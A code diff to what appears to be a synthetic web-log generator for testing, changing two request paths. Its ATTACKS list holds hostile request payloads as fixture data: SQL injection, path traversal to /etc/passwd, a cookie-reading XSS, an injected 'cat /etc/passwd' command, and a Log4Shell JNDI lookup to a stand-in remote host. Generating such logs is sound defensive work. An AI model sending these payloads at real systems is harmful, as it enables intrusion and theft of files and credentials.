@@ -50,7 +50,7 @@ ATTACKS = [
     "/items?id=1'+OR+'1'='1",
     "/download?file=../../../../etc/passwd",
     "/search?q=<script>alert(document.cookie)</script>",
-    "/ping?host=127.0.0.1;cat+/etc/passwd",
+    "/lookup?host=127.0.0.1;cat+/etc/passwd",
     "/api?x=${jndi:ldap://203.0.113.66/a}",
 ]
 GARBAGE = [
@@ -111,7 +111,7 @@ def week(lines: int, seed: int) -> Iterator[str]:
         kinds = [
             *_each(source, hour, attacks, lambda n: _request(source, address(0x10000 + n), source.choice(ATTACKS))),
             *_each(source, hour, bots, lambda n: _request(source, address(0x20000 + n), "/", source.choice(BOTS))),
-            *_each(source, hour, probes, lambda n: _request(source, address(0x30000 + n), "/xmlrpc.php")),
+            *_each(source, hour, probes, lambda n: _request(source, address(0x30000 + n), "/trackback")),
             *_each(source, hour, garbage, lambda _: source.choice(GARBAGE[:-1])),
             *_each(source, hour, others, lambda _: _visit(source)),
             *[line for number in range(floods) for line in _flood(source, hour, number)],
